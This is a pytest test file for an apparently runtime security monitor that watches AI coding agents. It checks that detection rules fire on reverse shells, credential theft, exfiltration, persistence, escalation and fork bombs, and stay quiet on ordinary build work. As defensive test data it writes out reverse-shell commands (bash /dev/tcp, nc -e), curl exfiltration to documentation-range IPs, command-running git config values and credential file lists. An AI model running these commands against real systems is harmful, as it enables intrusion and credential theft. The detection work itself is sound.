"""The bundled rules: they load and lint clean, each fires on its behaviour and not on its
look-alike, and ordinary build work fires nothing. Events are built with the model classes."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Callable

import pytest

from coi_sentinel.assets import asset_dir
from coi_sentinel.rules import Engine, SessionInfo, load_ruleset
from coi_sentinel.rules.fields import markdown_table
from coi_sentinel.rules.lint import lint

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def bundled() -> Any:
    return load_ruleset(None)


@pytest.fixture
def fire(bundled: Any) -> Callable[..., list[str]]:
    def _fire(*events: Any, sessions: Any = None) -> list[str]:
        alerts: list = []
        engine = Engine(bundled, on_alert=alerts.append, sessions=sessions)
        for e in events:
            engine.feed(e)
        return [a.rule for a in alerts]
    return _fire


def test_bundled_rules_load_and_lint_clean() -> None:
    report = lint()
    assert [str(d) for d in report.diagnostics] == []
    assert report.rules >= 35
    assert all(f.startswith("rules/") for f in report.files)
    assert asset_dir("rules").joinpath("common.yaml").is_file()


def test_every_bundled_rule_has_a_false_positive_note_and_a_tag(bundled: Any) -> None:
    for c in bundled.rules:
        assert len(c.rule.false_positives) > 20, c.id
        assert any(t.startswith("T1") for t in c.rule.tags), c.id


def test_every_bundled_rule_has_a_behaviour_test_here(bundled: Any) -> None:
    text = Path(__file__).read_text()
    assert [rid for rid in bundled.rule_ids if f'"{rid}"' not in text] == []


def test_docs_field_table_is_the_catalogue() -> None:
    doc = (ROOT / "docs" / "rules.md").read_text()
    assert markdown_table() in doc


def test_docs_list_every_bundled_rule(bundled: Any) -> None:
    doc = (ROOT / "docs" / "rules.md").read_text()
    for rid in bundled.rule_ids:
        assert f"`{rid}`" in doc, rid


def test_sensitive_sets_come_from_the_rules(bundled: Any) -> None:
    prefixes, suffixes = bundled.sensitive_prefixes(), bundled.sensitive_suffixes()
    assert "/etc/shadow" in prefixes and "/etc/gshadow" in prefixes
    for suffix in (".aws/credentials", ".kube/config", ".config/gcloud/credentials.db", "id_ed25519", "id_rsa",
                   ".env", "/environ", ".claude/.credentials.json", ".codex/auth.json"):
        assert suffix in suffixes, suffix
    # nothing so broad that every read would be reported
    assert not [p for p in prefixes if p in ("/", "/proc/", "/home/", "/etc/")]
    assert len(prefixes) <= 1024 and len(suffixes) <= 1024
    assert all(0 < len(x.encode()) < 256 for x in prefixes + suffixes)


# ---- reverse shells -------------------------------------------------------------------------

def test_renamed_bash_with_a_socket_dup_onto_stdin_and_stdout(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/home/code/.cache/kworker", "kworker", "-i", comm="kworker"),
               ev.connect(300, "203.0.113.9", 8443, fd=3, errno=115),
               ev.dup(300, 3, 0, is_socket=True, daddr="203.0.113.9", dport=8443),
               ev.dup(300, 3, 1, is_socket=True, daddr="203.0.113.9", dport=8443))
    assert got == ["reverse_shell_socket_dup"]


def test_socket_on_stdin_alone_is_not_a_shell_loop(fire: Any, ev: Any) -> None:
    # a service handing a child a socket on one fd (incusd runs helpers like that)
    got = fire(ev.exec(300, "/usr/bin/btrfs", "btrfs", "qgroup", comm="btrfs"),
               ev.dup(300, 54, 0, is_socket=True, daddr="10.123.45.1", dport=67),
               ev.dup(300, 56, 1), ev.dup(300, 58, 2))
    assert got == []


def test_bash_dev_tcp_redirection(fire: Any, ev: Any) -> None:
    # bash -i >& /dev/tcp/127.0.0.1/9001 0>&1: bash connects, dup2(3, 1), dup2(1, 2), dup2(1, 0);
    # the kernel flags only the first, the process table knows fd 1 is the socket afterwards
    got = fire(ev.exec(300, "/usr/bin/bash", "bash", "-i"),
               ev.connect(300, "127.0.0.1", 9001, fd=3),
               ev.dup(300, 3, 1, is_socket=True, daddr="127.0.0.1", dport=9001),
               ev.dup(300, 1, 2), ev.dup(300, 1, 0))
    assert got == ["reverse_shell_socket_dup"]   # once stdin and stdout are both the socket


def test_nc_e_shell(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.9", "8443"),
               ev.connect(300, "203.0.113.9", 8443, fd=3),
               *(ev.dup(300, 3, fd, is_socket=True, daddr="203.0.113.9", dport=8443) for fd in (0, 1, 2)),
               ev.exec(300, "/bin/sh", "sh"))
    # dups onto 1 and 2; sh reads its commands from a process holding an outbound socket
    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio",
                                                      "shell_spawned_by_network_process"]


def test_python_one_liner_with_subprocess(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/usr/bin/python3.11", "python3", "-c", "import socket,subprocess;..."),
               ev.connect(300, "::1", 7000, fd=3),
               ev.fork(300, 301, comm="python3"),
               *(ev.dup(301, 3, fd, is_socket=True, daddr="::1", dport=7000, ppid=300) for fd in (0, 1, 2)),
               ev.exec(301, "/bin/sh", "sh", "-i", ppid=300))
    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio"]  # dups onto 1 and 2


def test_not_reverse_shells(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(300, "/usr/bin/ssh", "ssh", "git@github.com"), ev.connect(300, "140.82.112.3", 22, fd=3),
                ev.dup(300, 5, 0), ev.exec(301, "/bin/bash", "bash")) == []
    # a unix socket on stdio (a terminal multiplexer, a supervisor) is not a network socket
    assert fire(ev.connect(400, "/run/user/1000/tmux", 0, fd=3),
                ev.dup(400, 3, 0, is_socket=True, daddr="/run/user/1000/tmux"), ev.exec(400, "/bin/bash")) == []


# ---- network ---------------------------------------------------------------------------------

def test_cloud_metadata(fire: Any, ev: Any) -> None:
    assert fire(ev.connect(10, "169.254.169.254", 80)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "fd00:ec2::254", 80, errno=101)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "100.100.100.200", 80)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "1.1.1.1", 443), ev.connect(10, "169.254.169.253", 53)) == []


def test_private_network_in_restricted_sessions(fire: Any, ev: Any) -> None:
    restricted = lambda e: SessionInfo("s1", "claude", "restricted")  # noqa: E731
    opened = lambda e: SessionInfo("s1", "claude", "open")  # noqa: E731
    assert fire(ev.connect(10, "10.0.0.8", 22), sessions=restricted) == ["private_network_connect_restricted"]
    assert fire(ev.connect(10, "fe80::1", 80), sessions=restricted) == ["private_network_connect_restricted"]
    assert fire(ev.connect(10, "10.123.45.1", 53), sessions=restricted) == []        # DNS to the bridge
    assert fire(ev.connect(10, "127.0.0.1", 8080), sessions=restricted) == []
    assert fire(ev.connect(10, "10.0.0.8", 22), sessions=opened) == []
    assert fire(ev.connect(10, "10.0.0.8", 22)) == []


def test_c2_and_miner_ports(fire: Any, ev: Any, bundled: Any) -> None:
    assert fire(ev.connect(10, "203.0.113.5", 4444)) == ["c2_port_connect"]
    assert fire(ev.connect(10, "203.0.113.5", 14444, family="inet")) == ["mining_pool_port_connect"]
    assert fire(ev.connect(10, "127.0.0.1", 4444), ev.connect(10, "203.0.113.5", 443)) == []
    # a port number alone is a low-severity hint
    severity = {c.id: c.rule.severity.name for c in bundled.rules}
    assert severity["c2_port_connect"] == severity["mining_pool_port_connect"] == "LOW"


# ---- credentials -----------------------------------------------------------------------------

def test_credential_reads(fire: Any, ev: Any) -> None:
    assert fire(ev.open(10, "/home/code/.ssh/id_ed25519", comm="cat")) == ["ssh_private_key_read"]
    assert fire(ev.open(10, "/home/code/.aws/credentials", comm="python3")) == ["cloud_credential_read"]
    assert fire(ev.open(10, ".kube/config", comm="node")) == ["cloud_credential_read"]
    assert fire(ev.open(10, "/workspace/.env", comm="node")) == ["dotenv_file_read"]
    assert fire(ev.open(10, "/etc/shadow", comm="cat")) == ["shadow_file_read"]
    assert fire(ev.open(10, "/proc/4242/environ", comm="cat")) == ["other_process_environ_read"]
    assert fire(ev.open(10, "/home/code/.claude/.credentials.json", comm="cat")) == ["agent_credential_read_by_other"]


def test_credential_reads_by_their_own_tools(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/ssh", "ssh", "host"), ev.open(10, "/home/code/.ssh/id_ed25519")) == []
    assert fire(ev.exec(11, "/usr/local/bin/aws", "aws", "s3", "ls"), ev.open(11, "/home/code/.aws/credentials")) == []
    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "/usr/lib/google-cloud-sdk/lib/gcloud.py", "auth"),
                ev.open(12, "/home/code/.config/gcloud/credentials.db")) == []
    assert fire(ev.exec(13, "/usr/sbin/unix_chkpwd", "unix_chkpwd"), ev.open(13, "/etc/shadow")) == []
    assert fire(ev.exec(14, "/usr/bin/node", "claude", comm="claude"),
                ev.open(14, "/home/code/.claude/.credentials.json", comm="claude")) == []
    assert fire(ev.open(15, "/proc/self/environ"), ev.open(15, "/proc/15/environ"),
                ev.open(15, "/home/code/.ssh/id_ed25519.pub"), ev.open(15, "/workspace/.env.example")) == []
    # a write open of a secret file is not a read
    assert fire(ev.open(16, "/home/code/.aws/credentials", kind="write", comm="vim")) == []


# ---- exfiltration ----------------------------------------------------------------------------

def shell(ev: Any) -> tuple:
    return (ev.fork(100, 200, comm="claude"), ev.exec(200, "/bin/bash", "bash", "-c", "...", ppid=100))


def test_secret_read_then_connect_from_the_same_tree(fire: Any, ev: Any) -> None:
    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
               ev.exec(201, "/usr/bin/cat", "cat", "/home/code/.aws/credentials", ppid=200),
               ev.open(201, "/home/code/.aws/credentials", ppid=200, comm="cat"),
               ev.exec(202, "/usr/bin/curl", "curl", "-d", "@-", "https://203.0.113.7", ppid=200),
               ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl", errno=115))
    assert got == ["cloud_credential_read", "exfil_secret_read_then_connect"]


def test_secret_use_by_its_tool_is_not_exfiltration(fire: Any, ev: Any) -> None:
    # git push over ssh: ssh reads the key and connects
    assert fire(*shell(ev), ev.fork(200, 201, ppid=100),
                ev.exec(201, "/usr/bin/ssh", "ssh", "git@github.com", ppid=200),
                ev.open(201, "/home/code/.ssh/id_ed25519", ppid=200, comm="ssh"),
                ev.connect(201, "140.82.112.3", 22, ppid=200, comm="ssh")) == []
    # a read in one command and a connect in another command of the agent
    assert fire(*shell(ev), ev.fork(100, 300, comm="claude"), ev.exec(300, "/bin/bash", "bash", ppid=100),
                ev.fork(200, 201, ppid=100), ev.fork(300, 301, ppid=100),
                ev.open(201, "/home/code/.ssh/id_rsa", ppid=200, comm="cat"),
                ev.connect(301, "203.0.113.7", 443, ppid=300, comm="curl")) == ["ssh_private_key_read"]


def test_env_dump_piped_to_the_network(fire: Any, ev: Any) -> None:
    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
               ev.exec(201, "/usr/bin/env", "env", ppid=200),
               ev.exec(202, "/usr/bin/curl", "curl", "-d", "@-", "https://203.0.113.7", ppid=200),
               ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl"))
    assert got == ["exfil_env_dump_to_network"]
    assert fire(*shell(ev), ev.fork(200, 201, ppid=100),
                ev.exec(201, "/usr/bin/env", "env", "CC=gcc", "make", ppid=200),
                ev.connect(201, "203.0.113.7", 443, ppid=200)) == []


def test_env_read_by_the_agent_itself_is_not_a_dump(fire: Any, ev: Any) -> None:
    # Claude Code's Bash tool: `bash -c env` (bash execs env, a child of claude), the output
    # read back by claude, then claude's next request to its API
    probe = (ev.exec(100, "/usr/local/bin/claude", "claude", "-p", "task", comm="claude"),
             ev.fork(100, 300, comm="claude"),
             ev.exec(300, "/bin/bash", "bash", "-c", "env", ppid=100),
             ev.exec(300, "/usr/bin/env", "env", ppid=100))
    assert fire(*probe, ev.send(100, "203.0.113.10", 443, 20_000, comm="HTTP Client")) == []
    # the same dump from a script the agent runs, sent by the script: still a dump sent out
    assert fire(ev.exec(100, "/usr/local/bin/claude", "claude", comm="claude"),
                ev.fork(100, 200, comm="claude"),
                ev.exec(200, "/usr/bin/python3", "python3", "leak.py", ppid=100),
                ev.fork(200, 201, comm="python3"),
                ev.exec(201, "/usr/bin/env", "env", ppid=200),
                ev.send(200, "203.0.113.7", 443, 4_000, ppid=100, comm="python3")) == [
        "exfil_env_dump_to_network"]


def test_bytes_out_threshold(fire: Any, ev: Any) -> None:
    assert fire(ev.send(10, "203.0.113.7", 443, 30_000_000), ev.send(10, "203.0.113.7", 443, 30_000_000)) == [
        "exfil_bytes_out_threshold"]
    assert fire(ev.send(10, "127.0.0.1", 5432, 100_000_000), ev.send(10, "203.0.113.7", 443, 40_000_000)) == []


# ---- persistence -----------------------------------------------------------------------------

@pytest.mark.parametrize("path, rule", [
    (".git/hooks/pre-commit", "persistence_git_hook_write"),
    ("/workspace/.git/config", "persistence_git_config_write"),
    (".vscode/tasks.json", "persistence_repo_automation_write"),
    ("/workspace/.github/workflows/ci.yml", "persistence_repo_automation_write"),
    (".husky/pre-push", "persistence_repo_automation_write"),
    ("/home/code/.bashrc", "persistence_shell_rc_write"),
    ("/etc/profile.d/x.sh", "persistence_shell_rc_write"),
    ("/etc/cron.d/job", "persistence_cron_write"),
    ("/var/spool/cron/crontabs/code", "persistence_cron_write"),
    ("/home/code/.ssh/authorized_keys", "persistence_authorized_keys_write"),
    ("/etc/sudoers.d/code", "persistence_sudoers_write"),
    ("/etc/systemd/system/x.service", "persistence_service_unit_write"),
    ("/home/code/.config/systemd/user/x.service", "persistence_service_unit_write"),
    ("/home/code/.ssh/config", "persistence_shell_rc_write"),
    ("/home/code/.vim/plugin/x.vim", "persistence_shell_rc_write"),
    ("/home/code/.config/environment.d/10-path.conf", "persistence_shell_rc_write"),
    ("/home/code/.tmux.conf", "persistence_shell_rc_write"),
    ("/etc/apt/apt.conf.d/00x", "persistence_service_unit_write"),
    ("/etc/passwd", "persistence_account_file_write"),
])
def test_persistence_writes(fire: Any, ev: Any, path: str, rule: str) -> None:
    assert fire(ev.exec(10, "/usr/bin/python3", "python3", "x.py"), ev.open(10, path, kind="write")) == [rule]
    # a failed attempt (read-only protected path) is reported too
    assert fire(ev.open(11, path, kind="write", errno=30)) == [rule]
    # so is a rename onto the path
    assert fire(ev.rename(12, "/tmp/staged", path)) == [rule]


def test_persistence_writes_by_their_own_tools(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/git", "git", "init"), ev.open(10, ".git/config", kind="write"),
                ev.open(10, ".git/hooks/pre-commit.sample", kind="write")) == []
    assert fire(ev.exec(11, "/usr/local/bin/pre-commit", "pre-commit", "install"),
                ev.open(11, ".git/hooks/pre-commit", kind="write")) == []
    assert fire(ev.exec(12, "/usr/bin/dpkg", "dpkg", "-i", "x.deb"), ev.open(12, "/etc/cron.d/x", kind="write"),
                ev.chmod(12, "/usr/bin/sudo", 0o4755)) == []
    # bash appends to its history (O_APPEND)
    assert fire(ev.open(13, "/workspace/src/main.py", kind="write"), ev.open(13, "/home/code/.bash_history",
                                                                             kind="write", flags=0o2101)) == []
    # cp -r of a repository creates .git/config anew (O_CREAT|O_EXCL): no repository changed
    assert fire(ev.exec(17, "/usr/bin/cp", "cp", "-r", "repo", "/tmp/copy"),
                ev.open(17, "/tmp/copy/.git/config", kind="write", flags=0o301),
                ev.open(17, "/tmp/copy/.git/hooks/pre-commit.sample", kind="write", flags=0o301)) == []
    # reading a persistence file is not writing it
    assert fire(ev.open(14, "/home/code/.bashrc", kind="sensitive")) == []


def test_git_config_that_runs_commands(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/git", "git", "config", "core.fsmonitor", "touch /tmp/x")) == [
        "git_config_code_execution"]
    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "core.hooksPath=/tmp/h", "commit")) == [
        "git_config_code_execution"]
    assert fire(ev.exec(10, "/usr/bin/git", "git", "config", "user.name", "x")) == []
    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "alias.x=!sh -c id", "x")) == ["git_config_code_execution"]
    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "core.pager=sh -c id", "log")) == [
        "git_config_code_execution"]
    # values that switch the feature off or name git's own helpers run nothing
    for argv in (("-c", "core.hooksPath=/dev/null", "commit", "-m", "x"),
                 ("-c", "credential.helper=", "-c", "credential.helper=store", "fetch"),
                 ("-c", "credential.helper=cache --timeout=60", "push"),
                 ("-c", "core.pager=cat", "log"), ("-c", "core.editor=true", "rebase", "-i"),
                 ("-c", "core.sshCommand=ssh -o BatchMode=yes", "fetch"),
                 ("config", "--global", "credential.helper", "store"),
                 ("-c", "alias.co=checkout", "co", "main")):
        assert fire(ev.exec(10, "/usr/bin/git", "git", *argv)) == [], argv


def test_setuid_bits(fire: Any, ev: Any) -> None:
    assert fire(ev.chmod(10, "/tmp/sh", 0o4755)) == ["setuid_bit_set"]
    assert fire(ev.chmod(10, "/srv/shared", 0o2775)) == ["setuid_bit_set"]
    assert fire(ev.chmod(10, "/tmp/sh", 0o755)) == []
    assert fire(ev.chmod(10, "/tmp/sh", 0o4755)) and "04755" in _output(fire, ev.chmod(10, "/tmp/sh", 0o4755))


def _output(fire: Any, event: Any) -> str:
    alerts: list = []
    eng = Engine(load_ruleset(None), on_alert=alerts.append)
    eng.feed(event)
    return alerts[0].output


# ---- execution tricks ------------------------------------------------------------------------

def test_exec_tricks(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/memfd:payload (deleted)", "x", flags=1 << 3)) == ["exec_from_memfd"]
    assert fire(ev.exec(10, "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", comm="runc:[1:CHILD]")) == []
    assert fire(ev.exec(10, "/dev/shm/x")) == ["exec_from_dev_shm"]
    assert fire(ev.exec(10, "/tmp/.x")) == ["exec_from_tmp"]
    assert fire(ev.exec(10, "/tmp/go-build2981/b001/exe/main")) == []
    # venvs and build directories in /tmp: judged by who wrote the file, not where it is
    assert fire(ev.exec(10, "/tmp/venv-a1/bin/python3", "python3", "-m", "pytest")) == []
    assert fire(ev.exec(11, "/usr/bin/gcc", "gcc", "-o", "/tmp/build/app", "a.c"),
                ev.open(11, "/tmp/build/app", kind="write", comm="gcc"),
                ev.exec(12, "/tmp/build/app", "/tmp/build/app")) == []
    assert fire(ev.exec(10, "/home/code/x (deleted)", flags=1 << 2)) == ["exec_deleted_file"]
    assert fire(ev.exec(10, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "/tmp/noexec/x")) == [
        "exec_ld_so_direct"]
    assert fire(ev.exec(10, "/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64.so.1", "./x")) == ["exec_ld_so_direct"]
    assert fire(ev.exec(20, "/bin/bash", "/bin/bash", "/usr/bin/ldd", "/bin/ls"), ev.fork(20, 21),
                ev.exec(21, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--verify", "/bin/ls",
                        ppid=20)) == []
    assert fire(ev.exec(10, "/opt/xmrig/xmrig", "xmrig")) == ["miner_name_exec"]
    assert fire(ev.exec(10, "/home/code/syst", "syst", "-o", "stratum+tcp://pool.example:3333")) == [
        "crypto_miner_exec"]
    assert fire(ev.exec(10, "/failed/xmrig", errno=2)) == []


def test_downloaded_file_executed(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(10, "/usr/bin/curl", "curl", "-o", "tool", "https://x"),
               ev.open(10, "tool", kind="write", comm="curl"),
               ev.exec(11, "/workspace/tool", "./tool"))
    assert got == ["exec_downloaded_file"]
    # "curl URL > tool": the shell opens the file; curl's write summary names it
    got = fire(ev.exec(20, "/bin/bash", "bash"), ev.fork(20, 21),
               ev.open(21, "tool2", kind="write", comm="bash", ppid=20),
               ev.exec(21, "/usr/bin/curl", "curl", "https://x", ppid=20),
               ev.write_summary(21, "tool2", 5000, comm="curl", ppid=20),
               ev.exec(22, "/workspace/tool2", "./tool2"))
    assert got == ["exec_downloaded_file"]
    assert fire(ev.exec(10, "/usr/bin/curl", "curl", "-o", "x.tar.gz", "https://x"),
                ev.open(10, "x.tar.gz", kind="write", comm="curl"), ev.exec(11, "/usr/bin/tar", "tar", "xf")) == []


def test_a_script_the_agent_wrote_and_ran_is_no_download(fire: Any, ev: Any) -> None:
    """The agent holds its model API's connection and writes files: what it writes, itself or
    through a shell it runs, then runs (./repro.sh, bash /workspace/repro.sh) is its work."""
    agent = (ev.exec(100, "/usr/local/bin/claude", "claude", "-p"),
             ev.connect(100, "160.79.104.10", 443, fd=20, comm="claude"))
    direct = (ev.open(100, "/workspace/repro.sh", kind="write", comm="claude"),
              ev.fork(100, 101, comm="claude"),
              ev.exec(101, "/workspace/repro.sh", "./repro.sh", ppid=100),
              ev.fork(100, 102, comm="claude"),
              ev.exec(102, "/bin/bash", "bash", "/workspace/repro.sh", ppid=100))
    assert fire(*agent, *direct) == []
    heredoc = (ev.fork(100, 110, comm="claude"),
               ev.exec(110, "/bin/bash", "bash", "-c", "cat > gen.sh <<'EOF' ...", ppid=100),
               ev.open(110, "/workspace/gen.sh", kind="write", comm="bash", ppid=100),
               ev.exec(111, "/workspace/gen.sh", "./gen.sh", ppid=110))
    assert fire(*agent, *heredoc) == []
    # a download the agent runs is still one: curl -o, and a shell redirecting curl's output
    fetched = (ev.fork(100, 120, comm="claude"),
               ev.exec(120, "/usr/bin/curl", "curl", "-o", "/workspace/t.sh", "https://x", ppid=100),
               ev.open(120, "/workspace/t.sh", kind="write", comm="curl", ppid=100),
               ev.exec(121, "/bin/bash", "bash", "/workspace/t.sh", ppid=100))
    assert fire(*agent, *fetched) == ["downloaded_script_run"]
    redirected = (ev.fork(100, 130, comm="claude"),
                  ev.exec(130, "/bin/bash", "bash", "-c", "curl -s https://x > tool", ppid=100),
                  ev.open(130, "/workspace/tool", kind="write", comm="bash", ppid=100),
                  ev.exec(131, "/workspace/tool", "./tool", ppid=130))
    assert fire(*agent, *redirected) == ["exec_downloaded_file"]


# ---- escalation and escape -------------------------------------------------------------------

def test_escalation(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/sudo", "sudo", "id")) == ["privilege_tool_exec"]
    assert fire(ev.priv(10, "finit_module", 3, 0, "")) == ["kernel_module_load"]
    assert fire(ev.priv(10, "ptrace", 16, 4242)) == ["ptrace_attach_other_process"]
    assert fire(ev.fork(10, 11), ev.priv(10, "ptrace", 0x4206, 11)) == []           # a debugger's own child
    assert fire(ev.priv(10, "ptrace", 0, 0)) == []                                    # PTRACE_TRACEME
    assert fire(ev.priv(10, "unshare", 0x10000000)) == ["namespace_or_mount_in_container"]
    assert fire(ev.priv(10, "mount", 0, 0, "/mnt", errno=1)) == ["namespace_or_mount_in_container"]
    assert fire(ev.exec(10, "/usr/bin/bwrap", "bwrap"), ev.priv(10, "unshare", 0x10000000)) == []
    for op in ("fsopen", "move_mount", "pivot_root", "chroot", "open_by_handle_at"):   # wave 8's ops
        assert fire(ev.priv(10, op, 0, 0, "", errno=1)) == ["namespace_or_mount_in_container"], op
    assert fire(ev.priv(10, "bpf", 5, 0, "", errno=1)) == ["bpf_syscall_in_container"]
    ev.container = "host"
    assert fire(ev.priv(10, "unshare", 0x10000000)) == []
    assert fire(ev.priv(10, "bpf", 5, 0, "")) == []
    ev.container = "agent-1"
    assert fire(ev.exec(10, "/usr/bin/python3", "python3"), ev.priv(10, "io_uring_setup", 8)) == [
        "io_uring_unexpected"]
    assert fire(ev.exec(10, "/usr/bin/fio", "fio"), ev.priv(10, "io_uring_setup", 8)) == []
    assert fire(ev.exec(10, "/workspace/a.out", "a.out"), ev.uring(10, "connect", 16, killed=True)) == [
        "io_uring_connect"]
    assert fire(ev.exec(10, "/workspace/a.out", "a.out"), ev.uring(10, "openat", 18)) == []
    assert fire(ev.priv(10, "memfd_create", 0, 0, "x"), ev.priv(10, "setns", 3, 0, errno=1)) == [
        "namespace_or_mount_in_container"]


def test_fd_path_symlink(fire: Any, ev: Any) -> None:
    """ln -s /proc/self/fd/3 /tmp/x names an open fd (a memfd payload) by an ordinary path."""
    assert fire(ev.link(10, "/proc/self/fd/3", "/tmp/x")) == ["fd_path_symlink"]
    assert fire(ev.link(10, "/proc/4242/fd/7", "/workspace/.cache/run", comm="python3")) == ["fd_path_symlink"]
    assert fire(ev.link(10, "/dev/fd/5", "/tmp/y")) == ["fd_path_symlink"]
    assert fire(ev.link(10, "/proc/self/fd/0", "/dev/stdin", comm="lxc-start")) == []
    # Incus sets a container's /dev up from the host, in the mounted root file system
    assert fire(ev.link(10, "/proc/self/fd/1", "/usr/lib/x86_64-linux-gnu/lxc/rootfs/dev/stdout",
                        comm="incusd")) == []
    # ... and, for an unprivileged container, inside its /dev mount: the path is /stdin
    assert fire(ev.link(10, "/proc/self/fd/0", "/stdin", comm="incusd")) == []
    assert fire(ev.link(10, "/proc/self/fd/2", "/stderr", comm="incusd")) == []
    # a stdio name for another fd is not the set-up's link
    assert fire(ev.link(10, "/proc/self/fd/3", "/tmp/stdin")) == ["fd_path_symlink"]
    assert fire(ev.link(10, "/proc/self/fd/0", "/tmp/stdout")) == ["fd_path_symlink"]
    assert fire(ev.link(10, "/proc/self/fd/3", "/tmp/x", errno=17)) == []
    assert fire(ev.link(10, "/usr/bin/python3", "/tmp/py")) == []


def test_process_renamed_as_kernel_thread(fire: Any, ev: Any) -> None:
    """prctl(PR_SET_NAME) to a kernel thread's name; ordinary thread names raise nothing."""
    py = ev.exec(10, "/usr/bin/python3", "python3", "-c", "x")
    assert fire(py, ev.priv(10, "set_name", 0, 0, "kworker/0:2H", comm="python3")) == [
        "process_renamed_as_kernel_thread"]
    assert fire(py, ev.priv(10, "set_name", 0, 0, "[kthreadd]", comm="python3")) == [
        "process_renamed_as_kernel_thread"]
    assert fire(py, ev.priv(10, "set_name", 0, 0, "ksoftirqd/1", comm="python3")) == [
        "process_renamed_as_kernel_thread"]
    for name in ("libuv-worker", "V8 DefaultWorke", "ThreadPoolForeg", "node", "pytest-xdist"):
        assert fire(py, ev.priv(10, "set_name", 0, 0, name, comm="python3")) == [], name
    assert fire(py, ev.priv(10, "set_name", 0, 0, "kworker/0:2H", errno=14)) == []


def test_exec_from_disguised_path(fire: Any, ev: Any) -> None:
    """A folder named ". " (shown as "."), "bin " (shown as bin) or "...": hiding, nothing else."""
    for exe in (".cache/. /.x", "/tmp/. /x", "/var/tmp/.../kx", "/home/u/bin /ls", "/tmp/ x/run",
                "/workspace/tool "):
        assert fire(ev.exec(10, exe, "x")) == ["exec_from_disguised_path"], exe
    for exe in ("/home/u/My Project/build/app", "./configure", "../bin/x", "/usr/bin/python3",
                ".cache/.x", "/workspace/a b/c"):
        assert fire(ev.exec(10, exe, "x")) == [], exe
    assert fire(ev.exec(10, "/tmp/. /x", "x", errno=2)) == []


def test_compat_syscall(fire: Any, ev: Any) -> None:
    """A 32-bit system call of interest (int $0x80): the call is the event; killed or not."""
    assert fire(ev.exec(10, "/workspace/a.out", "a.out"), ev.priv(10, "compat_syscall", 359, 1, "socket")) == [
        "compat_syscall"]
    assert fire(ev.priv(10, "compat_syscall", 63, 0, "dup2")) == ["compat_syscall"]
    assert fire(ev.priv(10, "setuid", 0, 0)) == []


def test_fork_bomb(fire: Any, ev: Any) -> None:
    """Judged by processes that stay: forks count while more than 500 are alive."""
    t0 = 50_000_000_000
    # 1,100 children that stay, 0.5 ms apart: forks 501.. count, the 501st counted one fires
    assert fire(*(ev.fork(10, 1000 + i, ts=t0 + i * 500_000) for i in range(1100))) == ["fork_bomb"]
    # the same, 2.1 ms apart: at most 477 counted forks within a second
    assert fire(*(ev.fork(10, 1000 + i, ts=t0 + i * 2_100_000) for i in range(1100))) == []


def test_fork_bursts_of_short_lived_processes_are_no_fork_bomb(fire: Any, ev: Any) -> None:
    """A build or an exec loop: 3,000 forks in 0.3 s, each child exits (two alive at most)."""
    t0 = 50_000_000_000
    events = []
    for i in range(3000):
        ts = t0 + i * 100_000
        events += [ev.fork(10, 1000 + i, ts=ts), ev.exec(1000 + i, "/bin/true", "true", ppid=10, ts=ts + 1),
                   ev.exit(1000 + i, ppid=10, ts=ts + 2)]
    assert fire(*events) == []


# ---- ordinary work ---------------------------------------------------------------------------

def build_like_workload(ev: Any) -> list:
    """Compile C files, run a test suite, git operations, pip install from a local wheel, an
    agent talking to its API and reading its own credentials, ldd, ssh for git push."""
    out = [ev.exec(100, "/usr/bin/node", "claude", comm="claude"),
           ev.open(100, "/home/code/.claude/.credentials.json", comm="claude"),
           ev.connect(100, "160.79.104.10", 443, comm="claude", errno=115),
           ev.send(100, "160.79.104.10", 443, 250_000, comm="claude")]
    pid = 200
    out += [ev.fork(100, pid, comm="claude"), ev.exec(pid, "/bin/bash", "bash", "-c", "make", ppid=100)]
    for i in range(5):
        c = pid + 1 + i * 10
        out += [ev.fork(pid, c, ppid=100), ev.exec(c, "/usr/bin/gcc", "gcc", "-c", f"f{i}.c", ppid=pid),
                ev.fork(c, c + 1, ppid=pid),
                ev.exec(c + 1, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1", f"f{i}.c", ppid=c),
                ev.open(c + 1, f"/tmp/cc{i}.s", kind="write", ppid=c, comm="cc1"),
                ev.exit(c + 1, ppid=c), ev.fork(c, c + 2, ppid=pid),
                ev.exec(c + 2, "/usr/bin/as", "as", "-o", f"f{i}.o", ppid=c),
                ev.open(c + 2, f"f{i}.o", kind="write", ppid=c, comm="as"),
                ev.write_summary(c + 2, f"f{i}.o", 9000, ppid=c, comm="as"),
                ev.unlink(c, f"/tmp/cc{i}.s", ppid=pid, comm="gcc"), ev.exit(c + 2, ppid=c), ev.exit(c, ppid=pid)]
    out += [ev.exec(260, "/usr/bin/ld", "ld", "-o", "app", ppid=pid), ev.open(260, "app", kind="write", comm="ld"),
